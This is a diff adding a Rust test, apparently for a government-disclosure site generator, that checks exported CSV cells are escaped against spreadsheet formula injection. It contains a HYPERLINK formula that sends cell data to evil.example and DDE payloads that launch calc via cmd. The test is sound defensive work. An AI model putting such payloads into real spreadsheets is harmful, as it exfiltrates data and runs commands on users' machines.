@@ -6,7 +6,7 @@ use std::process::Command;
 
 use gongkai::pipeline;
 
-use crate::harness::{self, doc, Site, CONFIG};
+use crate::harness::{self, doc, errors, Site, CONFIG};
 
 const BIN: &str = env!("CARGO_BIN_EXE_gongkai");
 
@@ -78,6 +78,84 @@ fn r11_9_new_refuses_paths_outside_content_before_reserving_a_number() {
     assert!(ledger.contains("\tcontent/2026/a.md"), "{ledger}");
     assert!(ledger.contains("\tcontent/2026/b.md"), "{ledger}");
     assert_eq!(ledger.lines().filter(|l| l.contains("13502/")).count(), 2);
+}
+
+// ---- 10. No formula in the CSV files ----
+
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击查看")"#;
+const CALC: &str = "+cmd|' /C calc'!A0";
+
+/// The rows of a CSV file the build wrote (BOM stripped), header first.
+fn csv_rows(s: &Site, rel: &str) -> Vec<Vec<String>> {
+    let bytes = std::fs::read(s.public().join(rel)).unwrap();
+    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM");
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(body)
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+#[test]
+fn r11_10_csv_cells_never_start_a_formula_and_json_keeps_the_data() {
+    let s = Site::new();
+    let yaml = |t: &str| t.replace('\\', "\\\\").replace('"', "\\\"");
+    s.file(
+        "a.md",
+        &doc(
+            "13502/2024-00001",
+            &yaml(HYPERLINK),
+            &format!("summary: \"{}\"\n", yaml(CALC)),
+            "正文",
+        ),
+    );
+    // A 行政规范性文件 is in the register too.
+    s.file(
+        "b.md",
+        &doc(
+            "13502/2024-00002",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "doc_no: \"承市政规〔2024〕1号\"\nvalidity: \"有效\"\neffective: \"2024-02-01\"\nexpires: \"2029-01-31\"\nsummary: \"-2+3\"\n",
+            "正文",
+        )
+        .replace("kind: \"其他文件\"\nitem: \"20.15\"\n", "kind: \"行政规范性文件\"\nitem: \"20.1\"\n"),
+    );
+    let r = s.build();
+    assert!(r.written, "{:#?}", errors(&r));
+
+    let catalogue = csv_rows(&s, "catalogue.csv");
+    let col = |name: &str| catalogue[0].iter().position(|h| h == name).unwrap();
+    let row = |no: &str| catalogue.iter().find(|r| r[0] == no).unwrap();
+    assert_eq!(
+        row("13502/2024-00001")[col("名称")],
+        format!("'{HYPERLINK}")
+    );
+    assert_eq!(row("13502/2024-00001")[col("内容概述")], format!("'{CALC}"));
+    assert_eq!(row("13502/2024-00002")[col("内容概述")], "'-2+3");
+    let register = csv_rows(&s, "register.csv");
+    let title = register[0].iter().position(|h| h == "名称").unwrap();
+    assert_eq!(register[1][title], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    for (file, rows) in [("catalogue.csv", &catalogue), ("register.csv", &register)] {
+        for cell in rows.iter().flatten() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{file}: cell {cell:?} would run as a formula"
+            );
+        }
+    }
+
+    // The JSON files are data for programs: exactly what the documents say.
+    let json: serde_json::Value = serde_json::from_str(&s.read("catalogue.json")).unwrap();
+    let docs = json["documents"].as_array().unwrap();
+    let a = docs
+        .iter()
+        .find(|d| d["index_no"] == "13502/2024-00001")
+        .unwrap();
+    assert_eq!(a["title"], HYPERLINK);
+    assert_eq!(a["summary"], CALC);
+    let json: serde_json::Value = serde_json::from_str(&s.read("register.json")).unwrap();
+    assert_eq!(json["documents"][0]["title"], "@SUM(1+1)*cmd|' /C calc'!A0");
 }
 
 // ---- 13. The build date is the date in the site's timezone ----
